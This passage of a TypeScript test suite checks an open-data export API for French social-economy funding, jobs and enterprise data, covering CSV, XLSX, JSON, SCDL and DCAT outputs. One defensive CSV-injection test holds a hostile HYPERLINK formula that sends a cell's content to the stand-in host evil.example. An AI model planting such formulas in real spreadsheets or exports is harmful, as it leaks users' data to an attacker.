import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { gunzipSync } from "node:zlib";
import { importSireneFiles } from "@oess/app";
import { createTestDatabase, type TestDatabase } from "@oess/db/testing";
import { isValidSiret, loadTerritory, SCDL_COLUMNS, type ScdlRow, scdlProblems } from "@oess/domain";
import { FIXTURE_COMMUNES, writeFixtureFiles } from "@oess/sirene/fixtures";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import jsonld from "jsonld";
import { Parser, Store, Writer } from "n3";
import SHACLValidator from "rdf-validate-shacl";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { DATASETS, SCDL_DATASET } from "./catalog";
import type { ConformityReport } from "./conformity";
import type { ExportContext } from "./dataset";
import { offlineLoader } from "./dcat";
import { toCsv } from "./formats/csv";
import { jsonFromLines, toJson } from "./formats/json";
import { toXlsx } from "./formats/xlsx";
import { batches, csv as csvOf, jsonLines, xlsxLines } from "./read";
import { testOpenData } from "./test-handler";

let db: TestDatabase;
let api: ReturnType<typeof testOpenData>;
const sireneDir = mkdtempSync(path.join(os.tmpdir(), "opendata-sirene-"));
beforeAll(async () => {
  db = await createTestDatabase({ seed: true });
  api = testOpenData(db);
  const files = writeFixtureFiles(sireneDir);
  await importSireneFiles(db.sql, files, { communes: FIXTURE_COMMUNES, extractDate: "2026-11-01" });
});
afterAll(async () => {
  await db.dispose();
  rmSync(sireneDir, { recursive: true, force: true });
});

const get = (path: string, headers: Record<string, string> = {}) => api.get(path, headers);
const text = async (path: string) => (await get(path)).text();
/** The status alone; the body is cancelled, as a client that goes away would (it frees the stream's connection). */
async function status(path: string, headers: Record<string, string> = {}) {
  const response = await get(path, headers);
  await response.body?.cancel();
  return response.status;
}
const csv = async (path: string) => parse(await text(path), { columns: false, skip_empty_lines: true }) as string[][];
const count = async (sql: string, params: unknown[] = []) => ((await db.sql.query<{ n: number }>(sql, params))[0] as { n: number }).n;

interface Field {
  name: string;
  type: string;
  trueValues?: string[];
  falseValues?: string[];
  constraints?: { required?: boolean; unique?: boolean; pattern?: string; enum?: string[]; minimum?: number; maximum?: number; maxLength?: number };
}
interface Schema {
  fields: Field[];
  primaryKey?: string[];
  foreignKeys?: Array<{ fields: string; reference: { resource: string; fields: string } }>;
  custom_checks?: Array<{ name: string; params: Record<string, string> }>;
}
interface Resource {
  name: string;
  path: string;
  /** Inline, or the URL of a published schema (the SCDL's official one). */
  schema: Schema | string;
}

const SCDL_SCHEMA_URL = "https://schema.data.gouv.fr/schemas/scdl/subventions/2.1.1/schema.json";
/** The official SCDL schema, as schema.data.gouv.fr publishes it (copied with its attribution in specs/). */
const officialScdlSchema = JSON.parse(readFileSync(new URL("../specs/scdl-subventions-2.1.1/schema.json", import.meta.url), "utf8")) as Schema;
const schemaAt = (schema: Schema | string): Schema => {
  if (typeof schema !== "string") return schema;
  expect(schema).toBe(SCDL_SCHEMA_URL);
  return officialScdlSchema;
};

/** The SIRET check digit (Luhn), written here again so that the product's own is not what checks it; La Poste's establishments sum to a multiple of 5. */
const siretKeyHolds = (siret: string): boolean => {
  if (!/^\d{14}$/.test(siret)) return false;
  const sum = [...siret].reverse().reduce((acc, d, i) => {
    const n = Number(d) * (i % 2 === 1 ? 2 : 1);
    return acc + (n > 9 ? n - 9 : n);
  }, 0);
  return siret.startsWith("356000000") ? [...siret].reduce((a, d) => a + Number(d), 0) % 5 === 0 : sum % 10 === 0;
};

/** The custom checks an official schema declares, as schema.data.gouv.fr's validator runs them. */
function customCheckProblems(header: string[], rows: string[][], checks: Schema["custom_checks"] = []): string[] {
  const problems: string[] = [];
  for (const check of checks) {
    for (const [n, row] of rows.entries()) {
      const at = (column: string | undefined) => row[header.indexOf(column ?? "")] ?? "";
      if (check.name === "french-siret-value") {
        const value = at(check.params.column);
        if (value !== "" && !siretKeyHolds(value)) problems.push(`${check.params.column} row ${n + 2} "${value}": not a valid SIRET`);
      } else if (check.name === "one-of-required") {
        if (at(check.params.column1) === "" && at(check.params.column2) === "")
          problems.push(`row ${n + 2}: ${check.params.column1} or ${check.params.column2} required`);
      } else problems.push(`unknown custom check ${check.name}`);
    }
  }
  return problems.slice(0, 10);
}

const TYPE_CHECKS: Record<string, (v: string) => boolean> = {
  string: () => true,
  integer: (v) => /^-?\d+$/.test(v),
  number: (v) => /^-?\d+(\.\d+)?$/.test(v),
  // Table Schema's default trueValues and falseValues.
  boolean: (v) => ["true", "True", "TRUE", "1", "false", "False", "FALSE", "0"].includes(v),
  date: (v) => /^\d{4}-\d{2}-\d{2}$/.test(v) && !Number.isNaN(Date.parse(v)),
  datetime: (v) => /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/.test(v),
};

/** Every value of a CSV against its Table Schema: type, required, pattern, enum, bounds, unique. */
function tableSchemaProblems(rows: string[][], fields: Field[]): string[] {
  const problems: string[] = [];
  fields.forEach((field, i) => {
    const seen = new Set<string>();
    for (const [n, row] of rows.entries()) {
      const v = row[i] ?? "";
      const where = `${field.name} row ${n + 2} "${v}"`;
      if (v === "") {
        if (field.constraints?.required) problems.push(`${where}: required`);
        continue;
      }
      const booleans = field.trueValues || field.falseValues ? [...(field.trueValues ?? []), ...(field.falseValues ?? [])] : null;
      if (booleans ? !booleans.includes(v) : !TYPE_CHECKS[field.type]?.(v)) problems.push(`${where}: not a ${field.type}`);
      const c = field.constraints ?? {};
      if (c.pattern && !new RegExp(`^(?:${c.pattern})$`).test(v)) problems.push(`${where}: does not match ${c.pattern}`);
      if (c.enum && !c.enum.includes(v)) problems.push(`${where}: not in ${c.enum.join("|")}`);
      if (c.maxLength !== undefined && [...v].length > c.maxLength) problems.push(`${where}: longer than ${c.maxLength}`);
      if (c.minimum !== undefined && Number(v) < c.minimum) problems.push(`${where}: below ${c.minimum}`);
      if (c.maximum !== undefined && Number(v) > c.maximum) problems.push(`${where}: above ${c.maximum}`);
      if (c.unique && seen.has(v)) problems.push(`${where}: duplicate`);
      seen.add(v);
    }
  });
  return problems.slice(0, 10);
}

describe("Data Package ↔ CSV files", () => {
  it("describes every served CSV: its fields are the file's header, in order, and every value fits its schema", async () => {
    const pkg = JSON.parse(await text("datapackage.json")) as { resources: Resource[]; licenses: Array<{ name: string; path: string }> };
    expect(pkg.licenses[0]).toMatchObject({ name: "etalab-2.0", path: "https://www.etalab.gouv.fr/licence-ouverte-open-licence/" });
    expect(pkg.resources.map((r) => r.name)).toEqual([...DATASETS.map((d) => d.name), "scdl-subventions"]);
    const files = new Map<string, string[][]>();
    for (const resource of pkg.resources) {
      const path = resource.path.replace("https://api.test/opendata/", "");
      const [header = [], ...rows] = await csv(path);
      files.set(resource.name, [header, ...rows]);
      const schema = schemaAt(resource.schema);
      expect(header, resource.name).toEqual(schema.fields.map((f) => f.name));
      expect(rows.length, resource.name).toBeGreaterThan(0);
      expect(tableSchemaProblems(rows, schema.fields), resource.name).toEqual([]);
      expect(customCheckProblems(header, rows, schema.custom_checks), resource.name).toEqual([]);
    }
    expect(pkg.resources.find((r) => r.name === "scdl-subventions")?.schema).toBe(SCDL_SCHEMA_URL);
    // Foreign keys hold across the files.
    for (const resource of pkg.resources) {
      for (const fk of schemaAt(resource.schema).foreignKeys ?? []) {
        const [header = [], ...rows] = files.get(resource.name) ?? [];
        const [refHeader = [], ...refRows] = files.get(fk.reference.resource) ?? [];
        const keys = new Set(refRows.map((r) => r[refHeader.indexOf(fk.reference.fields)]));
        const column = header.indexOf(fk.fields);
        const dangling = rows.map((r) => r[column]).filter((v) => v !== "" && !keys.has(v));
        expect(dangling, `${resource.name}.${fk.fields} → ${fk.reference.resource}`).toEqual([]);
      }
    }
  });
});

describe("datasets", () => {
  it("write every amount and FTE with two decimals, sums and empty cells included", async () => {
    const columns: Array<[string, string[]]> = [
      ["fundings.csv", ["amount"]],
      ["jobs.csv", ["fte"]],
      ["indicators.csv", ["fte", "funding_amount"]],
      ["scdl/subventions.csv", ["montant"]],
    ];
    for (const [file, names] of columns) {
      const [header = [], ...rows] = await csv(file);
      // A figure hidden by statistical confidentiality is empty, flagged « s »: never a zero.
      const flag = header.indexOf("jobs_flag");
      for (const name of names) {
        const values = rows.filter((row) => name !== "fte" || row[flag] !== "s").map((row) => row[header.indexOf(name)] ?? "");
        expect(values.length, `${file} ${name}`).toBeGreaterThan(0);
        expect(
          values.filter((v) => !/^\d+\.\d{2}$/.test(v)),
          `${file} ${name}`,
        ).toEqual([]);
      }
      if (flag >= 0) {
        expect(
          rows
            .filter((row) => row[flag] === "s")
            .map((row) => row[header.indexOf("fte")])
            .filter((v) => v !== ""),
        ).toEqual([]);
      }
    }
  });

  it("give the indicators by partner too, with rates per 1 000 inhabitants of each commune", async () => {
    const [header = [], ...rows] = await csv("indicators.csv");
    const at = (row: string[], name: string) => row[header.indexOf(name)] ?? "";
    const populations = new Map(
      (await db.sql.query<{ code: string; population: number }>("SELECT code, population FROM commune")).map((c) => [c.code, c.population]),
    );
    let rated = 0;
    for (const row of rows) {
      const population = populations.get(at(row, "commune_code"));
      expect(at(row, "population")).toBe(population === undefined ? "" : String(population));
      if (population === undefined) continue;
      expect(at(row, "jobs_created_per_1000_inhabitants")).toBe(
        at(row, "jobs_flag") === "s" ? "" : ((Number(at(row, "jobs_created")) * 1000) / population).toFixed(4),
      );
      expect(at(row, "funding_amount_per_1000_inhabitants")).toBe(((Number(at(row, "funding_amount")) * 1000) / population).toFixed(4));
      rated++;
    }
    expect(rated).toBeGreaterThan(50);
    const perPartner = new Map<string, number>();
    for (const row of rows) perPartner.set(at(row, "partner_id"), (perPartner.get(at(row, "partner_id")) ?? 0) + Number(at(row, "funding_count")));
    const expected = await db.sql.query<{ partner: string; n: number }>(
      "SELECT funder_id::text AS partner, count(*)::int AS n FROM funding WHERE status = 'PUBLISHED' GROUP BY 1",
    );
    for (const e of expected) expect(perPartner.get(e.partner), e.partner).toBe(e.n);
  });

  it("give each enterprise's INSEE legal category with the nomenclature's label", async () => {
    const shipped: Array<{ code: string; libelle: string }> = parse(
      readFileSync(new URL("../../domain/data/categories-juridiques.csv", import.meta.url), "utf8"),
      {
        delimiter: ";",
        columns: true,
      },
    );
    const nomenclature = new Map(shipped.map((r) => [r.code, r.libelle]));
    const [header = [], ...rows] = await csv("enterprises.csv");
    const at = (row: string[], name: string) => row[header.indexOf(name)] ?? "";
    const stored = new Map(
      (await db.sql.query<{ id: string; code: string | null }>("SELECT id::text, legal_category AS code FROM enterprise")).map((e) => [e.id, e.code ?? ""]),
    );
    expect(rows.filter((row) => at(row, "legal_category") !== "").length).toBeGreaterThan(50);
    for (const row of rows) {
      expect(at(row, "legal_category"), at(row, "id")).toBe(stored.get(at(row, "id")));
      expect(at(row, "legal_category_label"), at(row, "id")).toBe(nomenclature.get(at(row, "legal_category")) ?? "");
    }
  });

  it("publish published records only, with the demo label on each row", async () => {
    const [header = [], ...rows] = await csv("fundings.csv");
    expect(rows.length).toBe(await count("SELECT count(*)::int AS n FROM funding WHERE status = 'PUBLISHED'"));
    expect(rows.length).toBeLessThan(await count("SELECT count(*)::int AS n FROM funding"));
    const source = header.indexOf("source");
    for (const row of rows) expect(row[source]).toMatch(/^Données de démonstration/);
  });

  it("apply ?year=, ?commune= and ?partner= as SQL does", async () => {
    const [, ...byYear] = await csv("fundings.csv?year=2022");
    expect(byYear.length).toBe(await count("SELECT count(*)::int AS n FROM funding WHERE status = 'PUBLISHED' AND year = 2022"));
    const [, ...byCommune] = await csv("enterprises.csv?commune=79191");
    expect(byCommune.length).toBe(await count("SELECT count(*)::int AS n FROM enterprise WHERE status = 'PUBLISHED' AND commune_code = '79191'"));
    const [, ...byPartner] = await csv("fundings.csv?partner=region-na");
    expect(byPartner.length).toBe(
      await count("SELECT count(*)::int AS n FROM funding f JOIN partner p ON p.id = f.funder_id WHERE f.status = 'PUBLISHED' AND p.slug = 'region-na'"),
    );
    expect(byPartner.length).toBeGreaterThan(0);
  });

  it("say precisely what is wrong with a request", async () => {
    const cases: Array<[string, number, RegExp]> = [
      ["fundings.csv?year=20xx", 400, /year="20xx" is not a year/],
      ["fundings.csv?commune=Niort", 400, /commune="Niort" is not an INSEE commune code/],
      ["fundings.csv?partner=nobody", 400, /matches no partner/],
      // Well-formed, but naming nothing: a header alone would read as « no rows ».
      ["fundings.csv?commune=99999", 400, /commune="99999" is not a commune of the territory; see \/opendata\/communes.csv/],
      ["scdl/subventions.csv?attribuant=00000000000000", 400, /attribuant="00000000000000" is not the SIRET of a partner; see \/opendata\/partners.csv/],
      ["scdl/conformite.json?attribuant=00000000000000", 400, /is not the SIRET of a partner/],
      // A filter given twice, whatever the order of the good and the bad value.
      ["fundings.csv?year=2020&year=abc", 400, /Parameter year is given 2 times; give it once/],
      ["fundings.csv?year=abc&year=2020", 400, /Parameter year is given 2 times; give it once/],
      ["communes.csv?year=2020", 400, /Unknown parameter "year" here; accepted: commune/],
      ["budget.csv", 404, /No open dataset at \/opendata\/budget.csv/],
    ];
    for (const [path, status, message] of cases) {
      const response = await get(path);
      expect(response.status, path).toBe(status);
      expect(((await response.json()) as { error: string }).error, path).toMatch(message);
    }
  });

  it("give the same rows to Excel France: BOM, semicolons, decimal commas, CRLF", async () => {
    const response = await get("fundings.excel.csv");
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const body = bytes.toString("utf8").slice(1);
    expect(body.split("\r\n").length).toBe(body.split("\n").length);
    const excel = parse(body, { columns: false, skip_empty_lines: true, delimiter: ";" }) as string[][];
    const [header, ...standard] = await csv("fundings.csv");
    expect(excel[0]).toEqual(header);
    const amount = header?.indexOf("amount") ?? -1;
    expect(standard.some((row) => row[amount]?.includes("."))).toBe(true);
    expect(excel.slice(1)).toEqual(standard.map((row) => row.map((cell, i) => (i === amount ? cell.replace(".", ",") : cell))));
  });

  it("give the same rows in JSON as in CSV, with the licence", async () => {
    const [header = [], ...rows] = await csv("jobs.csv");
    const json = (await (await get("jobs.json")).json()) as { license: { spdx: string }; notice: string; records: Array<Record<string, unknown>> };
    expect(json.license.spdx).toBe("etalab-2.0");
    expect(json.notice).toMatch(/^Données de démonstration/);
    expect(json.records).toHaveLength(rows.length);
    // JSON writes numbers as numbers (22 for "22.00"): compare values, not spellings.
    const value = (v: unknown) => (v === null || v === "" ? null : Number.isNaN(Number(v)) ? v : Number(v));
    expect(json.records.map((r) => header.map((h) => value(r[h])))).toEqual(rows.map((row) => row.map(value)));
  });

  it("give the same rows in XLSX, for spreadsheet users", async () => {
    const [header, ...rows] = await csv("partners.csv");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await (await get("partners.xlsx")).arrayBuffer());
    const sheet = workbook.getWorksheet("partners");
    expect(sheet?.getRow(1).values).toEqual([undefined, ...(header ?? [])]);
    expect(sheet?.rowCount).toBe(rows.length + 1);
  });
});

describe("statistical confidentiality", () => {
  it("publishes jobs as the protected table: no enterprise, hidden cells empty and flagged, shown cells exact and from 3 enterprises or more", async () => {
    const [header = [], ...rows] = await csv("jobs.csv");
    expect(header).not.toContain("enterprise_id");
    const at = (row: string[], column: string) => row[header.indexOf(column)] ?? "";
    const sums = await db.sql.query<{ year: number; commune: string | null; family: string | null; n: number; jobs: number; fte: string }>(
      `SELECT j.year, e.commune_code AS commune, e.legal_family::text AS family, count(*)::int AS n, sum(j.jobs_created)::int AS jobs, sum(j.fte)::text AS fte
         FROM job_record j JOIN enterprise e ON e.id = j.enterprise_id WHERE j.status = 'PUBLISHED'
        GROUP BY GROUPING SETS ((1, 2, 3), (1, 2), (1, 3), (1))`,
    );
    const key = (year: unknown, commune: unknown, family: unknown) => `${year}/${commune ?? ""}/${family ?? ""}`;
    const expected = new Map(sums.map((c) => [key(c.year, c.commune, c.family), c]));
    expect(rows).toHaveLength(expected.size);
    const flags = { s: 0, shown: 0 };
    for (const row of rows) {
      const cell = expected.get(key(at(row, "year"), at(row, "commune_code"), at(row, "legal_family")));
      expect(cell, row.join()).toBeDefined();
      if (at(row, "jobs_flag") === "s") {
        flags.s++;
        expect([at(row, "jobs_created"), at(row, "fte")]).toEqual(["", ""]);
      } else {
        flags.shown++;
        expect(cell?.n).toBeGreaterThanOrEqual(3);
        expect([at(row, "jobs_created"), Number(at(row, "fte"))]).toEqual([String(cell?.jobs), Number(cell?.fte)]);
      }
    }
    expect(flags.s).toBeGreaterThan(0);
    expect(flags.shown).toBeGreaterThan(0);
    // Each year's total is shown: enough enterprises contribute to it in the demo dataset.
    expect(rows.filter((r) => at(r, "level") === "year").map((r) => at(r, "jobs_flag"))).toEqual(Array(12).fill(""));
  });
});

describe("XLSX cells", () => {
  it("are dates, numbers and text as typed, in the French date format, under a frozen, filterable header", async () => {
    const [header = [], ...rows] = await csv("fundings.csv?year=2023");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await (await get("fundings.xlsx?year=2023")).arrayBuffer());
    const sheet = workbook.getWorksheet("fundings");
    if (!sheet) throw new Error("no fundings sheet");
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    const column = (name: string) => header.indexOf(name) + 1;
    const first = rows[0] ?? [];
    const row = sheet.getRow(2);
    const decision = row.getCell(column("decision_date"));
    expect(decision.type).toBe(ExcelJS.ValueType.Date);
    expect(decision.numFmt).toBe("dd/mm/yyyy");
    expect(decision.value).toEqual(new Date(`${first[column("decision_date") - 1]}T00:00:00Z`));
    const published = row.getCell(column("published_at"));
    expect(published.type).toBe(ExcelJS.ValueType.Date);
    expect(published.numFmt).toBe("dd/mm/yyyy hh:mm");
    expect((published.value as Date).getTime()).toBe(Date.parse(first[column("published_at") - 1] ?? ""));
    const amount = row.getCell(column("amount"));
    expect([amount.type, amount.value]).toEqual([ExcelJS.ValueType.Number, Number(first[column("amount") - 1])]);
    expect(row.getCell(column("purpose")).type).toBe(ExcelJS.ValueType.String);
  });
});

describe("spreadsheet formulas in published text (CSV injection)", () => {
  const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Voir")';
  it("are made inert in every CSV, kept as plain text in XLSX, and numbers stay numbers", async () => {
    // Entry refuses such text: this grant is written as older data or another way in could have.
    const [grant] = await db.sql.query<{ id: string; purpose: string }>(
      `UPDATE funding SET purpose = $1, payment_terms = '@SUM(1+1)' WHERE id = (
         SELECT f.id FROM funding f JOIN partner p ON p.id = f.funder_id
         WHERE f.status = 'PUBLISHED' AND p.is_public_body AND f.instrument = 'GRANT' AND f.year = 2023 AND f.beneficiary_enterprise_id IS NOT NULL
         ORDER BY f.seq LIMIT 1) RETURNING id::text AS id, purpose`,
      [FORMULA],
    );
    expect(grant?.purpose).toBe(FORMULA);
    const fundings = await csv("fundings.csv?year=2023");
    const header = fundings[0] ?? [];
    const row = fundings.find((r) => r[header.indexOf("id")] === grant?.id) ?? [];
    expect(row[header.indexOf("purpose")]).toBe(`'${FORMULA}`);
    expect(row[header.indexOf("payment_terms")]).toBe("'@SUM(1+1)");
    expect(Number(row[header.indexOf("amount")])).toBeGreaterThan(0);
    const scdl = await csv("scdl/subventions.csv");
    const objet = (scdl[0] ?? []).indexOf("objet");
    expect(scdl.some((r) => r[objet] === `'${FORMULA}`)).toBe(true);
    expect(scdl.every((r) => !/^[=+@-]/.test(r[objet] ?? ""))).toBe(true);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await (await get("fundings.xlsx?year=2023")).arrayBuffer());
    const cells: ExcelJS.Cell[] = [];
    workbook.getWorksheet("fundings")?.eachRow((r) => {
      if (r.getCell(header.indexOf("id") + 1).value === grant?.id) cells.push(r.getCell(header.indexOf("purpose") + 1));
    });
    expect(cells.map((c) => [c.type, c.value])).toEqual([[ExcelJS.ValueType.String, FORMULA]]);
  });
});

// PGlite has no streaming COPY: there both sides would be the batches, and the test would prove nothing.
it.runIf(Boolean(process.env.DATABASE_URL))("writes the same CSV bytes whichever way rows are read (COPY on PostgreSQL, batches elsewhere)", async () => {
  const ctx: ExportContext = { sql: db.sql, epciSiren: loadTerritory().epciSiren, isDemo: true };
  const collect = async (chunks: AsyncIterable<string | Uint8Array>) => {
    const parts: Buffer[] = [];
    for await (const chunk of chunks) parts.push(typeof chunk === "string" ? Buffer.from(chunk) : Buffer.from(chunk));
    return Buffer.concat(parts).toString("utf8");
  };
  for (const dataset of [...DATASETS, SCDL_DATASET]) {
    const filters = dataset.filters.includes("year") ? { year: 2023 } : {};
    const whole = await collect(csvOf(ctx, dataset, filters));
    expect(whole.split("\n").length, dataset.name).toBeGreaterThan(2);
    expect(whole, dataset.name).toBe(await collect(toCsv(dataset.columns, batches(ctx, dataset, filters))));
  }
});

// As above: only PostgreSQL writes JSON lines (COPY); elsewhere both sides would be the batches.
it.runIf(Boolean(process.env.DATABASE_URL))("writes the same JSON records whichever way rows are read, awkward text included", async () => {
  const awkward = 'Guillemets " et barre \\ oblique,\nretour à la ligne, tabulation\t, « ünïcödé » 🌱, contrôle \u0001 et \u2028';
  await db.sql.query("UPDATE funding SET purpose = $1 WHERE id = (SELECT id FROM funding WHERE status = 'PUBLISHED' ORDER BY id LIMIT 1)", [awkward]);
  const ctx: ExportContext = { sql: db.sql, epciSiren: loadTerritory().epciSiren, isDemo: true };
  const header = { dataset: "test", title: "test", license: { name: "", url: "", spdx: "" }, notice: null, lastModified: "" };
  const parsed = async (chunks: AsyncIterable<string | Uint8Array>) => {
    const parts: Buffer[] = [];
    for await (const chunk of chunks) parts.push(Buffer.from(chunk));
    return JSON.parse(Buffer.concat(parts).toString("utf8")) as { records: Array<Record<string, unknown>> };
  };
  for (const dataset of [...DATASETS, SCDL_DATASET]) {
    const lines = jsonLines(ctx, dataset, {});
    if (!lines) continue;
    const fromCopy = await parsed(jsonFromLines(header, dataset.columns, lines));
    expect(fromCopy.records.length, dataset.name).toBeGreaterThan(2);
    expect(fromCopy, dataset.name).toEqual(await parsed(toJson(header, dataset.columns, batches(ctx, dataset, {}))));
  }
  const { records } = (await (await get("fundings.json")).json()) as { records: Array<Record<string, unknown>> };
  expect(records.some((r) => r.purpose === awkward)).toBe(true);
});

it.runIf(Boolean(process.env.DATABASE_URL))("writes the same XLSX cells whichever way rows are read, awkward text included", async () => {
  const awkward = ' <b>Tom & Jerry</b> "cités",\r\nsur deux lignes\u0007 ';
  await db.sql.query("UPDATE funding SET purpose = $1 WHERE id = (SELECT id FROM funding WHERE status = 'PUBLISHED' ORDER BY id DESC LIMIT 1)", [awkward]);
  const ctx: ExportContext = { sql: db.sql, epciSiren: loadTerritory().epciSiren, isDemo: true };
  const cells = async (chunks: AsyncIterable<Uint8Array>) => {
    const parts: Buffer[] = [];
    for await (const chunk of chunks) parts.push(Buffer.from(chunk));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await new Response(Buffer.concat(parts)).arrayBuffer());
    const values: unknown[][] = [];
    workbook.worksheets[0]?.eachRow((row) => values.push(Array.isArray(row.values) ? row.values.slice(1) : []));
    return values;
  };
  for (const dataset of [...DATASETS, SCDL_DATASET]) {
    const xmlLines = xlsxLines(ctx, dataset, {});
    if (!xmlLines) continue;
    const fromCopy = await cells(toXlsx(dataset.name, dataset.columns, { xmlLines }));
    expect(fromCopy.length, dataset.name).toBeGreaterThan(2);
    expect(fromCopy, dataset.name).toEqual(await cells(toXlsx(dataset.name, dataset.columns, { batches: batches(ctx, dataset, {}) })));
  }
  const [header = [], ...rows] = await cells((await get("fundings.xlsx")).body as ReadableStream<Uint8Array>);
  const purpose = header.indexOf("purpose");
  expect(rows.some((row) => row[purpose] === awkward.replace("\u0007", ""))).toBe(true);
});

describe("SCDL Subventions 2.1.1", () => {
  it("has the 16 columns in order, and every row is valid SCDL", async () => {
    const [header, ...rows] = await csv("scdl/subventions.csv");
    expect(header).toEqual([...SCDL_COLUMNS]);
    expect(rows.length).toBeGreaterThan(100);
    for (const row of rows) {
      const record = Object.fromEntries(SCDL_COLUMNS.map((c, i) => [c, row[i] ?? ""])) as ScdlRow;
      expect(scdlProblems(record), JSON.stringify(record)).toEqual([]);
    }
  });

  it("holds exactly the published grants of public bodies, amounts included", async () => {
    const [, ...rows] = await csv("scdl/subventions.csv");
    const [expected] = await db.sql.query<{ n: number; total: string }>(
      `SELECT count(*)::int AS n, sum(f.amount)::text AS total FROM funding f JOIN partner p ON p.id = f.funder_id
       WHERE f.status = 'PUBLISHED' AND f.instrument = 'GRANT' AND p.is_public_body`,
    );
    expect(rows.length).toBe(expected?.n);
    const cents = rows.reduce((sum, r) => sum + Math.round(Number(r[SCDL_COLUMNS.indexOf("montant")]) * 100), 0);
    expect(cents).toBe(Math.round(Number(expected?.total) * 100));
  });

  it("narrows to one funder with ?attribuant=<SIRET>", async () => {
    const [{ siret } = { siret: "" }] = await db.sql.query<{ siret: string }>("SELECT siret FROM partner WHERE slug = 'ville-niort'");
    expect(isValidSiret(siret)).toBe(true);
    const [, ...rows] = await csv(`scdl/subventions.csv?attribuant=${siret}`);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect(row[1]).toBe(siret);
    expect(await status("scdl/subventions.csv?attribuant=123")).toBe(400);
  });

  it("reports, grant by grant, whether publication met the three-month deadline", async () => {
    const report = (await (await get("scdl/conformite.json")).json()) as ConformityReport;
    expect(report.seuil).toBe(23000);
    expect(report.subventions.length).toBe(
      await count(`SELECT count(*)::int AS n FROM funding f JOIN partner p ON p.id = f.funder_id
                   WHERE f.status = 'PUBLISHED' AND f.instrument = 'GRANT' AND p.is_public_body AND f.amount >= 23000 AND f.convention_date IS NOT NULL`),
    );
    for (const g of report.subventions) {
      expect(Number(g.montant)).toBeGreaterThanOrEqual(23000);
      expect(g.dansLeDelai).toBe(g.datePublication <= g.dateLimitePublication);
      expect(g.joursDeRetard === 0).toBe(g.dansLeDelai);
    }
    expect(report.subventions.some((g) => !g.dansLeDelai)).toBe(true);
    for (const s of report.synthese) {
      const mine = report.subventions.filter((g) => g.idAttribuant === s.idAttribuant);
      expect(s.publieesDansLeDelai + s.publieesEnRetard).toBe(mine.length);
    }
  });
});

describe("the SIRENE register", () => {
  it("lists the diffusible establishments, counts every one, and names the extract on each row", async () => {
    const [header = [], ...rows] = await csv("etablissements-ess.csv");
    const column = (name: string) => header.indexOf(name);
    const sirets = rows.map((r) => r[column("siret")]);
    const stored = await db.sql.query<{ siret: string; diffusible: boolean }>("SELECT siret, diffusible FROM register_establishment ORDER BY siret");
    expect(sirets).toEqual(stored.filter((r) => r.diffusible).map((r) => r.siret));
    expect(stored.some((r) => !r.diffusible)).toBe(true);
    expect(new Set(rows.map((r) => r[column("source")]))).toEqual(new Set(["Sirene (Insee), Licence Ouverte 2.0, extrait du 2026-11-01"]));
    expect(rows.find((r) => r[column("siret")] === "11111111100020")).toEqual(
      expect.arrayContaining(["79081", "9220", "Association déclarée", "ASSOCIATION", "NN", "Non employeur", "false", "2021-06-30"]),
    );

    const [countHeader = [], ...counts] = await csv("etablissements-ess-agreges.csv");
    const total = counts.reduce((sum, r) => sum + Number(r[countHeader.indexOf("establishments")]), 0);
    expect(total).toBe(stored.length);
    const niortOpen = await db.sql.query<{ n: number }>("SELECT count(*)::int AS n FROM register_establishment WHERE commune_code = '79191' AND active");
    const niort = await csv("etablissements-ess-agreges.csv?commune=79191");
    const active = niort[0]?.indexOf("active") ?? -1;
    const n = niort[0]?.indexOf("establishments") ?? -1;
    expect(
      niort
        .slice(1)
        .filter((r) => r[active] === "true")
        .reduce((sum, r) => sum + Number(r[n]), 0),
    ).toBe(niortOpen[0]?.n);
  });

  it("states the extract in the catalogue", async () => {
    const catalog = JSON.parse(await text("catalog.jsonld")) as { "dcat:dataset": Array<Record<string, any>> };
    const entry = catalog["dcat:dataset"].find((d) => d["dct:identifier"] === "observatoire-ess-niortais/etablissements-ess");
    expect(entry?.["dct:provenance"]?.["rdfs:label"]?.["@value"]).toMatch(
      /^Répertoire Sirene de l'Insee \(fichiers stock\), extrait du 2026-11-01, importé le \d{4}-\d{2}-\d{2}\.$/,
    );
    expect(entry?.["dcat:distribution"].map((d: { "dcat:downloadURL": string }) => d["dcat:downloadURL"])).toContain(
      "https://api.test/opendata/etablissements-ess.csv",
    );
  });
});

describe("DCAT catalogue", () => {
  const DCAT = "http://www.w3.org/ns/dcat#";
  const DCT = "http://purl.org/dc/terms/";

  it("expands as self-contained JSON-LD into a dcat:Catalog of every dataset, with what data.gouv.fr harvests", async () => {
    const doc = (await (await get("catalog.jsonld")).json()) as jsonld.JsonLdDocument;
    const expanded = (await jsonld.expand(doc, { documentLoader: offlineLoader })) as Array<Record<string, any>>;
    const catalog = expanded.find((n) => n["@type"]?.includes(`${DCAT}Catalog`));
    expect(catalog?.[`${DCT}license`]?.[0]?.["@id"]).toBe("https://www.etalab.gouv.fr/licence-ouverte-open-licence/");
    const datasets = catalog?.[`${DCAT}dataset`] as Array<Record<string, any>>;
    expect(datasets).toHaveLength(DATASETS.length + 1);
    for (const d of datasets) {
      for (const property of [
        `${DCT}identifier`,
        `${DCT}title`,
        `${DCT}description`,
        `${DCAT}keyword`,
        `${DCT}modified`,
        `${DCT}accrualPeriodicity`,
        `${DCT}publisher`,
        `${DCAT}contactPoint`,
        `${DCAT}landingPage`,
        `${DCT}license`,
      ]) {
        expect(d[property], `${d["@id"]} ${property}`).toBeDefined();
      }
      expect(d[`${DCAT}landingPage`][0]["@id"]).toBe("https://tableau.test/donnees-ouvertes");
      for (const distribution of d[`${DCAT}distribution`]) {
        expect(distribution[`${DCAT}downloadURL`][0]["@id"]).toMatch(/^https:\/\/api\.test\/opendata\//);
